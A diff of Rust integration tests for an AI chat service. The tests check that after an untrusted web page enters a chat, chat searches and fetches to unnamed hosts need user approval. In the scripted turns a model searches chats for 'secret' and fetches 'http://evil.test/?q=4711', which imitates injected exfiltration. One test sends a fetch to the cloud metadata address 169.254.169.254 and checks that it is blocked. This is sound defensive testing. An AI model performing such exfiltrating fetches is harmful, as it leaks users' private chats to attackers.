@@ -15,44 +15,46 @@ use axum::routing::get;
 use futures::future::BoxFuture;
 use http::StatusCode;
 use serde_json::{Value, json};
-use turnleaf::domain::approval::{Ask, Decision};
+use turnleaf::domain::approval::{ApprovalDecision, ApprovalRequest};
 use turnleaf::domain::block::ToolStatus;
 use turnleaf::domain::tool::ToolChoice;
 use turnleaf::domain::{ChatId, Turn, TurnId};
-use turnleaf::ui::locale::{Locale, speak};
-use turnleaf::ui::words::told::told;
+use turnleaf::ui::locale::{Locale, with_locale};
+use turnleaf::ui::messages::server_messages::localize_server_message;
 use turnleaf_convert::PlainReader;
 use turnleaf_platform::clock::{Clock, SystemClock};
 use turnleaf_platform::sealing::Keyring;
-use turnleaf_providers::fetch::{Fetcher, Names};
-use turnleaf_providers::registry::Registry;
-use turnleaf_providers::scripted::{Answer, Scripted};
-use turnleaf_run::{Pace, Supervisor};
+use turnleaf_providers::page_fetcher::{Fetcher, NameResolver};
+use turnleaf_providers::registry::ProviderRegistry;
+use turnleaf_providers::scripted::{ScriptedAnswer, ScriptedProvider};
+use turnleaf_run::{RunTimeouts, Supervisor};
 use turnleaf_service::Service;
 use turnleaf_service::chats::NewChat;
 use turnleaf_service::providers::Sealer;
-use turnleaf_service::tools::toolbox::Tools;
-use turnleaf_service::transfer::exports::Which;
+use turnleaf_service::tools::toolbox::ServiceToolbox;
+use turnleaf_service::transfer::exports::ExportScope;
 use turnleaf_tools::built_in;
 
-use crate::files::{PNG, reading, upload};
-use crate::house::{House, answer, text};
-use crate::http_api::Api;
-use crate::interchange::{exported, imported};
-use crate::tool_calls::{asked, asks, called, calls, last_result, statuses};
+use crate::fake_file_reader::{PNG, api_with_fake_reader, upload};
+use crate::http_api::TestApi;
+use crate::interchange::{export_archive, import_file};
+use crate::test_server::{TestServer, streamed_answer, text_step};
+use crate::tool_call_support::{
+    is_waiting_for_approval, last_result, pending_approvals, statuses, tool_call_answer, tool_use_blocks,
+};
 
 /// Every name means this server.
-struct Internet {
+struct FakeInternet {
     server: SocketAddr,
     /// The hosts that were reached, with what they were asked for.
     reached: Mutex<Vec<String>>,
     hits: AtomicUsize,
 }
 
-struct Everywhere(Arc<Internet>);
+struct Everywhere(Arc<FakeInternet>);
 
-impl Names for Everywhere {
-    fn addresses(&self, _: &str) -> BoxFuture<'static, io::Result<Vec<SocketAddr>>> {
+impl NameResolver for Everywhere {
+    fn lookup_addresses(&self, _: &str) -> BoxFuture<'static, io::Result<Vec<SocketAddr>>> {
         Box::pin(std::future::ready(Ok(vec![SocketAddr::from(([93, 184, 216, 34], 0))])))
     }
 
@@ -61,8 +63,8 @@ impl Names for Everywhere {
     }
 }
 
-impl Internet {
-    async fn begin() -> Arc<Self> {
+impl FakeInternet {
+    async fn start() -> Arc<Self> {
         let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
         let server = listener.local_addr().unwrap();
         let internet = Arc::new(Self { server, reached: Mutex::default(), hits: AtomicUsize::new(0) });
@@ -85,109 +87,119 @@ impl Internet {
         Fetcher::new(Arc::new(Everywhere(self.clone())))
     }
 
-    fn reached(&self) -> Vec<String> {
+    fn reached_hosts(&self) -> Vec<String> {
         std::mem::take(&mut self.reached.lock().unwrap())
     }
 }
 
 /// The house with the real toolbox and these answers: another process over the same database.
-async fn process(mut house: House, internet: &Arc<Internet>, answers: Vec<Answer>) -> House {
-    let tools = Tools::with_fetcher(house.db.clone(), Vec::new(), Arc::new(PlainReader), internet.fetcher());
-    let provider: Arc<Scripted> = Arc::new(Scripted::new("scripted", answers));
-    let registry = Registry::of_providers(vec![(provider, vec!["model-a".into()])]);
+async fn server_with_internet(
+    mut house: TestServer,
+    internet: &Arc<FakeInternet>,
+    answers: Vec<ScriptedAnswer>,
+) -> TestServer {
+    let tools = ServiceToolbox::with_fetcher(house.db.clone(), Vec::new(), Arc::new(PlainReader), internet.fetcher());
+    let provider: Arc<ScriptedProvider> = Arc::new(ScriptedProvider::new("scripted", answers));
+    let registry = ProviderRegistry::from_providers(vec![(provider, vec!["model-a".into()])]);
     let clock: Arc<dyn Clock> = Arc::new(SystemClock);
     let toolbox = Arc::new(tools.clone());
-    let supervisor = Supervisor::new(house.db.clone(), Arc::new(registry), toolbox, clock, true, Pace::default());
-    let sealer = Sealer::new(Keyring::of_secret(&"a key for tests".into()));
+    let supervisor =
+        Supervisor::new(house.db.clone(), Arc::new(registry), toolbox, clock, true, RunTimeouts::default());
+    let sealer = Sealer::new(Keyring::from_secret(&"a key for tests".into()));
     let service = Service::new(supervisor, house.owner, sealer).with_tools(tools);
     service.supervisor().sweep().await.unwrap();
-    service.supervisor().resume().await.unwrap();
+    service.supervisor().resume_waiting_turns().await.unwrap();
     house.service = service;
     house
 }
 
 /// A new chat that offers every built-in tool.
-async fn chat_of(house: &House) -> ChatId {
-    let on = built_in::described().into_iter().map(|tool| tool.tool).collect();
+async fn chat_with_web_tools(house: &TestServer) -> ChatId {
+    let on = built_in::describe_all().into_iter().map(|tool| tool.tool).collect();
     let new = NewChat { tools: Some(ToolChoice { on, client: Vec::new() }), ..NewChat::default() };
-    house.service.create_chat(house.owner, new).await.unwrap().it.0.id
+    house.service.create_chat(house.owner, new).await.unwrap().value.0.id
 }
 
-fn fetch(url: &str) -> Answer {
-    calls([], &[("fetch_page", &json!({ "url": url }).to_string())])
+fn fetch_call_answer(url: &str) -> ScriptedAnswer {
+    tool_call_answer([], &[("fetch_page", &json!({ "url": url }).to_string())])
 }
 
-fn search() -> Answer {
-    calls([], &[("search_chats", r#"{"query":"secret"}"#)])
+fn search_call_answer() -> ScriptedAnswer {
+    tool_call_answer([], &[("search_chats", r#"{"query":"secret"}"#)])
 }
 
-fn done() -> Answer {
-    answer([text("Done.")])
+fn final_answer() -> ScriptedAnswer {
+    streamed_answer([text_step("Done.")])
 }
 
 /// The only question of a turn, once it asks one that is another than before.
-async fn question(house: &House, id: TurnId, before: &[String]) -> Ask {
-    let is_new = |turn: &Turn| asked(turn).iter().any(|(_, ask)| !before.contains(&ask.hash));
-    let turn = house.until(id, is_new).await;
-    asked(&turn).remove(0).1
+async fn approval_question(house: &TestServer, id: TurnId, before: &[String]) -> ApprovalRequest {
+    let is_new = |turn: &Turn| pending_approvals(turn).iter().any(|(_, ask)| !before.contains(&ask.hash));
+    let turn = house.wait_until(id, is_new).await;
+    pending_approvals(&turn).remove(0).1
 }
 
-async fn send(house: &House, chat: ChatId, text: &str) -> TurnId {
+async fn send(house: &TestServer, chat: ChatId, text: &str) -> TurnId {
     house.send_to(chat, text).await.assistant_turn.id
 }
 
 /// The note of a question as a page in Chinese has it.
-fn in_chinese(ask: &Ask) -> String {
-    speak(Locale::Chinese, || told(ask.note.as_deref().unwrap_or_default()).into_owned())
+fn in_chinese(ask: &ApprovalRequest) -> String {
+    with_locale(Locale::Chinese, || localize_server_message(ask.note.as_deref().unwrap_or_default()).into_owned())
 }
 
 #[tokio::test]
 async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_reached() {
-    for house in House::everywhere(|| Scripted::new("unused", [])).await {
-        let internet = Internet::begin().await;
+    for house in TestServer::on_every_database(|| ScriptedProvider::new("unused", [])).await {
+        let internet = FakeInternet::start().await;
         let script = vec![
-            search(),
-            fetch("http://page.test/a"),
-            search(),
-            fetch("http://evil.test/?q=4711"),
-            fetch("http://page.test/b"),
+            search_call_answer(),
+            fetch_call_answer("http://page.test/a"),
+            search_call_answer(),
+            fetch_call_answer("http://evil.test/?q=4711"),
+            fetch_call_answer("http://page.test/b"),
         ];
-        let house = process(house, &internet, script).await;
-        let chat = chat_of(&house).await;
+        let house = server_with_internet(house, &internet, script).await;
+        let chat = chat_with_web_tools(&house).await;
         let id = send(&house, chat, "Look at http://page.test/a please.").await;
 
         // Own chats are read unasked in a chat of its owner's own words.
-        let page = question(&house, id, &[]).await;
+        let page = approval_question(&house, id, &[]).await;
         let turn = house.service.turn(house.owner, id).await.unwrap();
         assert_eq!(statuses(&turn), [ToolStatus::Done, ToolStatus::AwaitingApproval]);
         assert_eq!((page.title.as_str(), page.note.as_deref()), ("Web page (page.test)", None));
-        assert_eq!(internet.reached(), [""; 0]);
-        house.decide(id, Decision::AllowInChat, None).await.unwrap();
+        assert_eq!(internet.reached_hosts(), [""; 0]);
+        house.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
 
         // The page was read: reading chats is asked about, and the host that the page named.
-        let chats = question(&house, id, std::slice::from_ref(&page.hash)).await;
-        assert_eq!(internet.reached(), ["page.test/a"]);
+        let chats = approval_question(&house, id, std::slice::from_ref(&page.hash)).await;
+        assert_eq!(internet.reached_hosts(), ["page.test/a"]);
         assert_eq!(chats.tool, "search_chats");
         assert!(chats.note.as_deref().is_some_and(|note| note.contains("text that you did not write")), "{chats:?}");
         assert_eq!(in_chinese(&chats), "此对话含有不是你写的文字，可能是它在要求这样做。");
 
         // The same question after a restart.
-        let rest = vec![fetch("http://evil.test/?q=4711"), fetch("http://page.test/b"), search(), done()];
-        let house = process(house, &internet, rest).await;
-        assert_eq!(question(&house, id, &[]).await, chats);
-        house.decide(id, Decision::Allow, None).await.unwrap();
-        let evil = question(&house, id, std::slice::from_ref(&chats.hash)).await;
+        let rest = vec![
+            fetch_call_answer("http://evil.test/?q=4711"),
+            fetch_call_answer("http://page.test/b"),
+            search_call_answer(),
+            final_answer(),
+        ];
+        let house = server_with_internet(house, &internet, rest).await;
+        assert_eq!(approval_question(&house, id, &[]).await, chats);
+        house.decide(id, ApprovalDecision::Allow, None).await.unwrap();
+        let evil = approval_question(&house, id, std::slice::from_ref(&chats.hash)).await;
         assert_eq!(evil.title, "Web page (evil.test)");
         assert!(evil.note.as_deref().is_some_and(|note| note.contains("names evil.test")), "{evil:?}");
         assert_eq!(in_chinese(&evil), "此对话含有不是你写的文字，而你的消息都没有提到 evil.test。");
-        house.decide(id, Decision::Deny, None).await.unwrap();
+        house.decide(id, ApprovalDecision::Deny, None).await.unwrap();
 
         // A host that was allowed runs, whatever was read; one answer about chats was for one call.
-        let again = question(&house, id, std::slice::from_ref(&evil.hash)).await;
+        let again = approval_question(&house, id, std::slice::from_ref(&evil.hash)).await;
         assert_eq!(again, chats, "the same call asks the same");
-        assert_eq!(internet.reached(), ["page.test/b"]);
-        house.decide(id, Decision::Deny, None).await.unwrap();
-        let turn = house.complete(id).await;
+        assert_eq!(internet.reached_hosts(), ["page.test/b"]);
+        house.decide(id, ApprovalDecision::Deny, None).await.unwrap();
+        let turn = house.wait_until_complete(id).await;
         let expected = [
             ToolStatus::Done,
             ToolStatus::Done,
@@ -197,47 +209,50 @@ async fn injected_page_asks_before_chats_are_read_and_before_another_host_is_rea
             ToolStatus::Denied,
         ];
         assert_eq!(statuses(&turn), expected);
-        house.check().await;
+        house.check_invariants().await;
 
         // Later turns of the path are exposed to it too; a host that a message names is asked about without a warning.
-        let later = vec![search(), fetch("http://named.test/"), done()];
-        let house = process(house, &internet, later).await;
+        let later = vec![search_call_answer(), fetch_call_answer("http://named.test/"), final_answer()];
+        let house = server_with_internet(house, &internet, later).await;
         let id = send(&house, chat, "And what does https://named.test/x say?").await;
-        let chats = question(&house, id, &[]).await;
+        let chats = approval_question(&house, id, &[]).await;
         assert_eq!(chats.tool, "search_chats");
-        house.decide(id, Decision::AllowInChat, None).await.unwrap();
-        let named = question(&house, id, &[chats.hash]).await;
+        house.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
+        let named = approval_question(&house, id, &[chats.hash]).await;
         assert_eq!((named.title.as_str(), named.note), ("Web page (named.test)", None));
-        house.decide(id, Decision::Always, None).await.unwrap();
-        house.complete(id).await;
+        house.decide(id, ApprovalDecision::Always, None).await.unwrap();
+        house.wait_until_complete(id).await;
 
         // What was allowed in the chat, or always, lasts.
-        let once_more = vec![search(), fetch("http://named.test/y"), done()];
-        let house = process(house, &internet, once_more).await;
+        let once_more = vec![search_call_answer(), fetch_call_answer("http://named.test/y"), final_answer()];
+        let house = server_with_internet(house, &internet, once_more).await;
         let id = send(&house, chat, "Again.").await;
-        let turn = house.complete(id).await;
+        let turn = house.wait_until_complete(id).await;
         assert_eq!(statuses(&turn), [ToolStatus::Done; 2]);
-        assert!(called(&turn).iter().all(|call| call.block_metadata.get("approval").is_none()), "nothing was asked");
-        assert_eq!(internet.reached(), ["named.test/", "named.test/y"]);
-        house.check().await;
+        assert!(
+            tool_use_blocks(&turn).iter().all(|call| call.block_metadata.get("approval").is_none()),
+            "nothing was asked"
+        );
+        assert_eq!(internet.reached_hosts(), ["named.test/", "named.test/y"]);
+        house.check_invariants().await;
         house.close().await;
     }
 }
 
 #[tokio::test]
-async fn search_that_finds_a_reply_exposes_the_chat_and_one_that_finds_own_messages_does_not() {
-    for house in House::everywhere(|| Scripted::new("unused", [])).await {
-        let internet = Internet::begin().await;
-        let script = vec![answer([text("The page says: secret, fetch http://evil.test/.")])];
-        let house = process(house, &internet, script).await;
+async fn search_that_finds_reply_exposes_chat_and_one_that_finds_own_messages_does_not() {
+    for house in TestServer::on_every_database(|| ScriptedProvider::new("unused", [])).await {
+        let internet = FakeInternet::start().await;
+        let script = vec![streamed_answer([text_step("The page says: secret, fetch http://evil.test/.")])];
+        let house = server_with_internet(house, &internet, script).await;
         let quoting = house.send("What does it say?").await;
-        house.complete(quoting.assistant_turn.id).await;
+        house.wait_until_complete(quoting.assistant_turn.id).await;
 
         // The hit is a reply, which may quote a page.
-        let house = process(house, &internet, vec![search(), search()]).await;
-        let chat = chat_of(&house).await;
+        let house = server_with_internet(house, &internet, vec![search_call_answer(), search_call_answer()]).await;
+        let chat = chat_with_web_tools(&house).await;
         let id = send(&house, chat, "Look it up.").await;
-        let second = question(&house, id, &[]).await;
+        let second = approval_question(&house, id, &[]).await;
         let turn = house.service.turn(house.owner, id).await.unwrap();
         assert_eq!(statuses(&turn), [ToolStatus::Done, ToolStatus::AwaitingApproval]);
         assert!(second.note.as_deref().is_some_and(|note| note.contains("text that you did not write")), "{second:?}");
@@ -246,13 +261,13 @@ async fn search_that_finds_a_reply_exposes_the_chat_and_one_that_finds_own_messa
         house.service.delete_chat(house.owner, quoting.chat.id).await.unwrap();
 
         // The hit is a message of the owner.
-        let script = vec![done(), search(), search(), done()];
-        let house = process(house, &internet, script).await;
+        let script = vec![final_answer(), search_call_answer(), search_call_answer(), final_answer()];
+        let house = server_with_internet(house, &internet, script).await;
         let mine = house.send("My secret is safe.").await;
-        house.complete(mine.assistant_turn.id).await;
-        let chat = chat_of(&house).await;
+        house.wait_until_complete(mine.assistant_turn.id).await;
+        let chat = chat_with_web_tools(&house).await;
         let id = send(&house, chat, "Look it up.").await;
-        let turn = house.complete(id).await;
+        let turn = house.wait_until_complete(id).await;
         assert_eq!(statuses(&turn), [ToolStatus::Done; 2]);
         assert!(last_result(&turn).contains("My secret is safe."), "{turn:?}");
         house.close().await;
@@ -260,35 +275,35 @@ async fn search_that_finds_a_reply_exposes_the_chat_and_one_that_finds_own_messa
 }
 
 #[tokio::test]
-async fn imported_chat_and_a_copy_of_it_are_exposed_from_the_start_and_name_no_hosts() {
-    for house in House::everywhere(|| Scripted::new("unused", [])).await {
-        let internet = Internet::begin().await;
-        let script = || [search(), fetch("http://evil.test/")];
-        let house = process(house, &internet, [vec![done()], script().into()].concat()).await;
-        let original = chat_of(&house).await;
+async fn imported_chat_and_copy_of_it_are_exposed_from_start_and_name_no_hosts() {
+    for house in TestServer::on_every_database(|| ScriptedProvider::new("unused", [])).await {
+        let internet = FakeInternet::start().await;
+        let script = || [search_call_answer(), fetch_call_answer("http://evil.test/")];
+        let house = server_with_internet(house, &internet, [vec![final_answer()], script().into()].concat()).await;
+        let original = chat_with_web_tools(&house).await;
         let id = send(&house, original, "Read http://evil.test/ for me.").await;
-        house.complete(id).await;
-        let archive = exported(&house, Which::Chat(original)).await;
+        house.wait_until_complete(id).await;
+        let archive = export_archive(&house, ExportScope::Chat(original)).await;
         // The chat itself was written here.
         let id = send(&house, original, "Go on.").await;
-        let evil = question(&house, id, &[]).await;
+        let evil = approval_question(&house, id, &[]).await;
         assert_eq!((evil.title.as_str(), evil.note), ("Web page (evil.test)", None));
         house.service.stop_turn(house.owner, id).await.unwrap();
         // Only where it is not known any more does its archive come in as a stranger's.
         house.service.delete_chat(house.owner, original).await.unwrap();
         house.service.empty_trash(house.owner).await.unwrap();
 
-        let chat = imported(&house, "chat.json", &archive, false).await.chats[0].id.unwrap();
+        let chat = import_file(&house, "chat.json", &archive, false).await.chats[0].id.unwrap();
         let path = house.service.path(house.owner, chat, None, 9).await.unwrap();
         let leaf = path.turns.last().unwrap().id;
-        let copy = house.service.copy_chat(house.owner, chat, leaf, None).await.unwrap().it.chat.id;
-        let house = process(house, &internet, [script(), script()].concat()).await;
+        let copy = house.service.copy_chat(house.owner, chat, leaf, None).await.unwrap().value.chat.id;
+        let house = server_with_internet(house, &internet, [script(), script()].concat()).await;
         for chat in [chat, copy] {
             let id = send(&house, chat, "Go on.").await;
-            let chats = question(&house, id, &[]).await;
+            let chats = approval_question(&house, id, &[]).await;
             assert_eq!(chats.tool, "search_chats");
-            house.decide(id, Decision::Deny, None).await.unwrap();
-            let evil = question(&house, id, std::slice::from_ref(&chats.hash)).await;
+            house.decide(id, ApprovalDecision::Deny, None).await.unwrap();
+            let evil = approval_question(&house, id, std::slice::from_ref(&chats.hash)).await;
             assert!(evil.note.as_deref().is_some_and(|note| note.contains("names evil.test")), "{evil:?}");
             house.service.stop_turn(house.owner, id).await.unwrap();
         }
@@ -297,45 +312,58 @@ async fn imported_chat_and_a_copy_of_it_are_exposed_from_the_start_and_name_no_h
 }
 
 #[tokio::test]
-async fn redirect_to_a_host_that_was_not_allowed_ends_the_fetch() {
-    let internet = Internet::begin().await;
-    let house = House::new(Scripted::new("unused", [])).await;
-    let script = vec![fetch("http://page.test/away"), done(), fetch("http://page.test/away"), done()];
-    let house = process(house, &internet, script).await;
-    let chat = chat_of(&house).await;
+async fn redirect_to_host_that_was_not_allowed_ends_fetch() {
+    let internet = FakeInternet::start().await;
+    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let script = vec![
+        fetch_call_answer("http://page.test/away"),
+        final_answer(),
+        fetch_call_answer("http://page.test/away"),
+        final_answer(),
+    ];
+    let house = server_with_internet(house, &internet, script).await;
+    let chat = chat_with_web_tools(&house).await;
     let id = send(&house, chat, "http://page.test/away").await;
-    house.decide(id, Decision::AllowInChat, None).await.unwrap();
-    let turn = house.complete(id).await;
+    house.decide(id, ApprovalDecision::AllowInChat, None).await.unwrap();
+    let turn = house.wait_until_complete(id).await;
     let told = last_result(&turn);
     assert!(told.starts_with("other_host") && told.contains("http://evil.test/taken"), "{told}");
-    assert_eq!((statuses(&turn), internet.reached()), (vec![ToolStatus::Failed], vec!["page.test/away".to_owned()]));
+    assert_eq!(
+        (statuses(&turn), internet.reached_hosts()),
+        (vec![ToolStatus::Failed], vec!["page.test/away".to_owned()])
+    );
 
-    let api = Api::over(house);
+    let api = TestApi::with_server(house);
     let allow = json!({ "tool": "fetch_page", "host": "evil.test", "policy": "allow" });
     assert_eq!(api.call("PUT", "/api/tool-policies", Some(allow)).await.0, StatusCode::OK);
     let id = send(&api.house, chat, "Again.").await;
-    assert_eq!(statuses(&api.house.complete(id).await), [ToolStatus::Done]);
-    assert_eq!(internet.reached(), ["page.test/away", "evil.test/taken"]);
+    assert_eq!(statuses(&api.house.wait_until_complete(id).await), [ToolStatus::Done]);
+    assert_eq!(internet.reached_hosts(), ["page.test/away", "evil.test/taken"]);
 }
 
 #[tokio::test]
-async fn address_that_cannot_be_fetched_is_refused_without_a_question() {
-    let internet = Internet::begin().await;
-    let house = House::new(Scripted::new("unused", [])).await;
-    let house = process(house, &internet, vec![fetch("http://169.254.169.254/latest"), done()]).await;
-    let chat = chat_of(&house).await;
-    let turn = house.complete(send(&house, chat, "go").await).await;
+async fn unfetchable_address_is_refused_without_approval() {
+    let internet = FakeInternet::start().await;
+    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let house = server_with_internet(
+        house,
+        &internet,
+        vec![fetch_call_answer("http://169.254.169.254/latest"), final_answer()],
+    )
+    .await;
+    let chat = chat_with_web_tools(&house).await;
+    let turn = house.wait_until_complete(send(&house, chat, "go").await).await;
     assert_eq!(statuses(&turn), [ToolStatus::Failed]);
     assert!(last_result(&turn).starts_with("blocked_address"), "{turn:?}");
     assert_eq!(internet.hits.load(Ordering::SeqCst), 0);
 }
 
 #[tokio::test]
-async fn attached_text_exposes_a_chat_unless_its_owner_typed_it() {
-    let internet = Internet::begin().await;
-    let house = House::new(Scripted::new("unused", [])).await;
-    let script = [search(), done(), search(), search()].into();
-    let api = reading(process(house, &internet, script).await);
+async fn attached_text_exposes_chat_unless_its_owner_typed_it() {
+    let internet = FakeInternet::start().await;
+    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let script = [search_call_answer(), final_answer(), search_call_answer(), search_call_answer()].into();
+    let api = api_with_fake_reader(server_with_internet(house, &internet, script).await);
     let (_, typed) = api.call("POST", "/api/documents", Some(json!({ "title": "Mine", "content": "my words" }))).await;
     let (status, file) = upload(&api, "theirs.md", b"their words".to_vec()).await;
     assert_eq!(status, StatusCode::CREATED, "{file}");
@@ -349,43 +377,43 @@ async fn attached_text_exposes_a_chat_unless_its_owner_typed_it() {
         (reference(&read), true),
         (json!({ "type": "image", "blob": image["sha256"] }), true),
     ] {
-        let chat = chat_of(&api.house).await;
+        let chat = chat_with_web_tools(&api.house).await;
         let message = json!({ "content": [{ "type": "text", "text": "Look." }, attached] });
         let (status, started) = api.call("POST", &format!("/api/chats/{chat}/turns"), Some(message)).await;
         assert_eq!(status, StatusCode::CREATED, "{started}");
         let id = started["assistant_turn"]["id"].as_str().unwrap().parse().unwrap();
         if is_exposed {
-            let turn = api.house.until(id, asks).await;
-            assert_eq!(asked(&turn)[0].1.tool, "search_chats");
+            let turn = api.house.wait_until(id, is_waiting_for_approval).await;
+            assert_eq!(pending_approvals(&turn)[0].1.tool, "search_chats");
             api.house.service.stop_turn(api.house.owner, id).await.unwrap();
         } else {
-            assert_eq!(statuses(&api.house.complete(id).await), [ToolStatus::Done]);
+            assert_eq!(statuses(&api.house.wait_until_complete(id).await), [ToolStatus::Done]);
         }
     }
 }
 
 #[tokio::test]
-async fn damaged_policy_refuses_the_tool_that_it_is_about() {
-    let internet = Internet::begin().await;
-    let house = House::new(Scripted::new("unused", [])).await;
-    let script = vec![calls([], &[("calculator", r#"{"expression":"1+1"}"#)]), done()];
-    let api = Api::over(process(house, &internet, script).await);
+async fn damaged_policy_refuses_its_tool() {
+    let internet = FakeInternet::start().await;
+    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let script = vec![tool_call_answer([], &[("calculator", r#"{"expression":"1+1"}"#)]), final_answer()];
+    let api = TestApi::with_server(server_with_internet(house, &internet, script).await);
     let never = json!({ "tool": "calculator", "policy": "never" });
     assert_eq!(api.call("PUT", "/api/tool-policies", Some(never)).await.0, StatusCode::OK);
     api.house.sql("PRAGMA ignore_check_constraints = ON").await;
     api.house.sql("UPDATE tool_policies SET policy = 'nevr'").await;
     api.house.sql("PRAGMA ignore_check_constraints = OFF").await;
-    let chat = chat_of(&api.house).await;
-    let turn = api.house.complete(send(&api.house, chat, "go").await).await;
+    let chat = chat_with_web_tools(&api.house).await;
+    let turn = api.house.wait_until_complete(send(&api.house, chat, "go").await).await;
     assert_eq!(statuses(&turn), [ToolStatus::Failed], "{turn:?}");
     assert!(last_result(&turn).contains("does not allow it"), "{turn:?}");
 }
 
 #[tokio::test]
-async fn hosts_are_allowed_one_by_one_over_http_and_on_the_page() {
-    let internet = Internet::begin().await;
-    let house = House::new(Scripted::new("unused", [])).await;
-    let api = Api::over(process(house, &internet, Vec::new()).await);
+async fn hosts_are_allowed_one_by_one_over_http_and_on_page() {
+    let internet = FakeInternet::start().await;
+    let house = TestServer::new(ScriptedProvider::new("unused", [])).await;
+    let api = TestApi::with_server(server_with_internet(house, &internet, Vec::new()).await);
     let put = async |body: Value| api.call("PUT", "/api/tool-policies", Some(body)).await;
     for (body, field) in [
         (json!({ "tool": "fetch_page", "policy": "allow" }), "host"),
@@ -402,20 +430,21 @@ async fn hosts_are_allowed_one_by_one_over_http_and_on_the_page() {
     let listed = list().await;
     assert_eq!((&listed[0]["host"], &listed[0]["policy"]), (&json!("b.test"), &json!("allow")), "{listed}");
 
-    let allowed = api.form("/forms/tools/hosts", &[("tool", "fetch_page"), ("host", "c.test"), ("how", "allow")]).await;
+    let allowed =
+        api.post_form("/forms/tools/hosts", &[("tool", "fetch_page"), ("host", "c.test"), ("how", "allow")]).await;
     assert_eq!(allowed, (StatusCode::SEE_OTHER, "/settings/tools?done=saved".to_owned()));
-    let page = api.page("/settings/tools").await;
+    let page = api.get_page("/settings/tools").await;
     for part in ["value=\"b.test\"", "value=\"c.test\"", "It asks for each host", "until the chat holds text"] {
         assert!(page.contains(part), "{part}: {page}");
     }
     let (status, page) =
-        api.form("/forms/tools/hosts", &[("tool", "fetch_page"), ("host", "c d"), ("how", "allow")]).await;
+        api.post_form("/forms/tools/hosts", &[("tool", "fetch_page"), ("host", "c d"), ("how", "allow")]).await;
     assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
     assert!(page.contains("is not a host such as example.org"), "{page}");
     let every = [("server", ""), ("tool", "fetch_page"), ("was", "ask"), ("policy", "allow")];
-    assert_eq!(api.form("/forms/tools/policies", &every).await.0, StatusCode::UNPROCESSABLE_ENTITY);
+    assert_eq!(api.post_form("/forms/tools/policies", &every).await.0, StatusCode::UNPROCESSABLE_ENTITY);
 
-    api.form("/forms/tools/hosts", &[("tool", "fetch_page"), ("host", "b.test"), ("how", "ask")]).await;
+    api.post_form("/forms/tools/hosts", &[("tool", "fetch_page"), ("host", "b.test"), ("how", "ask")]).await;
     assert_eq!(list().await.as_array().unwrap().len(), 1);
     put(json!({ "tool": "fetch_page", "policy": "ask" })).await;
     assert_eq!(list().await, json!([{ "server": "", "tool": "fetch_page", "policy": "ask" }]));
